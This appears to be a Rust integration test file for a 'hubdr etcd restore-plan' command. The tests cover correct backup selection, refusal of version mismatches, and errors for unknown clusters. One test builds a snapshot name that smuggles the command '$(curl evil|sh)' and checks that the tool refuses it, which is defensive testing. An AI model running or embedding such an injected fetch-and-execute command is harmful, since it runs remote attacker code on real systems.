//! `hubdr etcd restore-plan` as a user runs it: the real binary on the example site, rendered,
//! with the status an agent published about its etcd backups.

mod support;

use support::status::{push_status, signed_files};
use support::Sandbox;

/// The example site rendered into `origin`.
fn rendered_example() -> Sandbox {
    let sandbox = Sandbox::new();
    let site = support::manifest_dir().join("../repos-example/site.yaml");
    std::fs::copy(site, sandbox.join("site.yaml")).unwrap();
    sandbox.hubdr(&["render", "--out", "origin"]).expect_code(0);
    sandbox
}

/// east-1's status: running `current`, with its newest backup taken at `taken`.
fn publish(sandbox: &Sandbox, current: &str, taken: &str, snapshot_object: &str) {
    let newest = format!(
        "{{time: '2026-12-06T02:30:41Z', version: '{taken}', snapshot: {{object: '{snapshot_object}', size: 104857600}}, keys: {{object: 's3keys:prod-emea-etcd-keys/east-1/static_kuberesources_2026-12-06_023041.tar.gz', size: 81920}}}}"
    );
    let at_current = if current == taken {
        format!("  newestAtCurrentVersion: {newest}\n")
    } else {
        String::new()
    };
    let text = format!(
        "apiVersion: hubdr.io/v1alpha1\nkind: ClusterStatus\ncluster: east-1\nagentVersion: 0.1.0\nupdatedAt: '2026-12-07T10:00:00Z'\nsource:\n  commit: abc\n  generation: 0\npass:\n  outcome: Succeeded\n  reason: Applied\nobserved:\n  etcdBackup:\n    newest: {newest}\n{at_current}    currentVersion: '{current}'\n    encryption: true\n"
    );
    let text = text.replace("\n  newestAtCurrentVersion", "\n    newestAtCurrentVersion");
    let status: hubdr::status::ClusterStatus = serde_yaml::from_str(&text).unwrap();
    assert!(status.observed.etcd_backup.is_some(), "{text}");
    push_status(&sandbox.join("origin"), &signed_files(&status));
}

const SNAPSHOT: &str = "s3:prod-emea-etcd-snapshots/east-1/snapshot_2026-12-06_023041.db";

#[test]
fn restore_plan_prints_the_newest_backup_of_the_clusters_version() {
    let sandbox = rendered_example();
    publish(&sandbox, "4.16.12", "4.16.12", SNAPSHOT);
    let run = sandbox.hubdr(&["etcd", "restore-plan", "east-1", "--repo", "origin"]);
    run.expect_code(0)
        .expect_stdout("Restore plan for etcd of cluster east-1")
        .expect_stdout(&format!(
            "rclone copyto {SNAPSHOT} backup/snapshot_2026-12-06_023041.db"
        ))
        .expect_stdout("backup/static_kuberesources_2026-12-06_023041.tar.gz")
        .expect_stdout("must print 4.16.12")
        .expect_stdout("hubdr never runs this");
    // Nothing was run or written: the repository has only the render and the status.
    assert_eq!(sandbox.listing(), ["origin", "site.yaml"]);
}

#[test]
fn restore_plan_refuses_a_backup_of_another_z_stream_and_hostile_objects() {
    let sandbox = rendered_example();
    publish(&sandbox, "4.16.13", "4.16.12", SNAPSHOT);
    sandbox
        .hubdr(&["etcd", "restore-plan", "east-1", "--repo", "origin"])
        .expect_code(1)
        .expect_stderr("no backup of east-1 was taken at its current version 4.16.13")
        .expect_stderr("same z-stream");

    publish(
        &sandbox,
        "4.16.12",
        "4.16.12",
        "s3:prod-emea-etcd-snapshots/east-1/snapshot_$(curl evil|sh).db",
    );
    let run = sandbox.hubdr(&["etcd", "restore-plan", "east-1", "--repo", "origin"]);
    run.expect_code(1).expect_stderr("refusing to print it");
    assert!(run.stdout.is_empty(), "{run}");
}

#[test]
fn restore_plan_names_the_clusters_it_covers() {
    let sandbox = rendered_example();
    sandbox
        .hubdr(&["etcd", "restore-plan", "dr-vault", "--repo", "origin"])
        .expect_code(2)
        .expect_stderr("\"dr-vault\" is not a cluster spec.etcdBackup covers")
        .expect_stderr("hub-a, hub-b, east-1");
    sandbox
        .hubdr(&["etcd", "restore-plan", "west-1", "--repo", "origin"])
        .expect_code(1)
        .expect_stderr("west-1's agent has not reported its etcd backups yet");
}
